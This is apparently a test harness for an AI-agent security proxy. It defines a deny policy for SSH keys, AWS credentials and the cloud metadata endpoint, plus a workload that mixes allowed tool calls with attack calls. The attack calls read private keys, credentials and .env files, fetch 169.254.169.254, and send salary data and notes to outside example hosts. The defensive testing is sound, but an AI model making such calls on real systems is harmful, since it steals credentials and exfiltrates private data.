// Clients that make calls through real proxies: some calls are allowed, some are attacks, and one waits for approval.

import { spawn } from 'node:child_process';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';

const program = fileURLToPath(new URL('../../packages/cli/dist/main.cjs', import.meta.url));
const server = fileURLToPath(new URL('./server.mjs', import.meta.url));

/** One client with its proxy and its server. */
export class Client {
  #child;
  #nextId = 1;
  #waiting = new Map();

  constructor({ name, role, home, variant }) {
    this.#child = spawn(
      process.execPath,
      [
        program,
        'proxy',
        '--server',
        role,
        '--',
        process.execPath,
        server,
        role,
        ...(variant ? [variant] : []),
      ],
      { env: { ...process.env, CLAWDEFENDER_HOME: home }, stdio: ['pipe', 'pipe', 'ignore'] },
    );
    createInterface({ input: this.#child.stdout }).on('line', (line) => {
      const message = JSON.parse(line);
      this.#waiting.get(message.id)?.(message);
    });
    this.name = name;
  }

  request(method, params) {
    const id = this.#nextId++;
    this.#child.stdin.write(`${JSON.stringify({ jsonrpc: '2.0', id, method, params })}\n`);
    return new Promise((resolve) => this.#waiting.set(id, resolve));
  }

  async open() {
    await this.request('initialize', {
      protocolVersion: '2025-06-18',
      capabilities: {},
      clientInfo: { name: this.name, version: '1.0' },
    });
    this.#child.stdin.write('{"jsonrpc":"2.0","method":"notifications/initialized"}\n');
    await this.request('tools/list', {});
  }

  call(name, given) {
    return this.request('tools/call', { name, arguments: given });
  }

  close() {
    return new Promise((resolve) => {
      this.#child.once('exit', resolve);
      this.#child.stdin.end();
    });
  }
}

export const policy = `version = 1
default = "log"

[[rule]]
name = "no_private_keys"
action = "deny"
path = ["~/.ssh/**", "~/.aws/**", "**/*.pem"]
message = "Agents may not access private keys"

[[rule]]
name = "ask_before_delete"
action = "prompt"
tool = "delete_*"
message = "Deleting files cannot be undone"

[[rule]]
name = "ask_before_merge"
action = "prompt"
tool = "merge_*"
message = "Merging changes the main branch"

[[rule]]
name = "no_metadata_service"
action = "deny"
host = "169.254.169.254"

[[rule]]
name = "delete_nothing"
action = "deny"
tool = "delete_file"
enabled = true

[[rule]]
name = "read_anything"
action = "allow"
tool = ["read_*", "list_*", "search_*", "fetch_*"]

[approval]
wait = "2m"

[chains]
action = "deny"

[[chains.pattern]]
name = "report_then_send"
steps = [{ effect = "read", path = "/srv/reports/**" }, { tool = "send_*" }]
within = "5m"

[responses]
secrets = "redact"
`;

const pause = () => new Promise((resolve) => setTimeout(resolve, 100 + 500 * Math.random()));

/** Makes the calls of one minute of work. */
export async function work({ files, github, browser }) {
  for (let round = 0; round < 20; round++) {
    for (const path of ['src/index.ts', 'README.md', 'package.json'])
      await pause().then(() => files.call('read_file', { path: `/srv/shop/${path}` }));
    await pause();
    await files.call('list_directory', { path: '/srv/shop/src' });
    await files.call('write_file', { path: `/srv/shop/notes-${round}.md`, content: 'some text' });
    await pause();
    await github.call('search_issues', { query: `label:bug page ${round}` });
    await pause();
    await browser.call('fetch_page', { url: `https://docs.example.com/page/${round}` });
    if (round % 3 === 0) await files.call('read_file', { path: '/root/.ssh/id_rsa' });
    if (round % 4 === 0)
      await browser.call('fetch_page', { url: 'http://169.254.169.254/latest/meta-data/' });
  }
  await files.call('read_file', { path: '/srv/shop/.env' });
  await browser.call('fetch_page', { url: 'https://shop.example.com/reviews' });
  await files.call('read_file', { path: '/root/.aws/credentials' });
  await files.call('read_file', { path: '/srv/shop/.env' });
  await files.call('read_file', { path: '/srv/reports/salaries.csv' });
  await files.call('send_report', { to: 'someone@example.net', body: 'the numbers' });
  await browser.call('http_post', { url: 'https://collect.example.net/x', body: 'notes' });
}
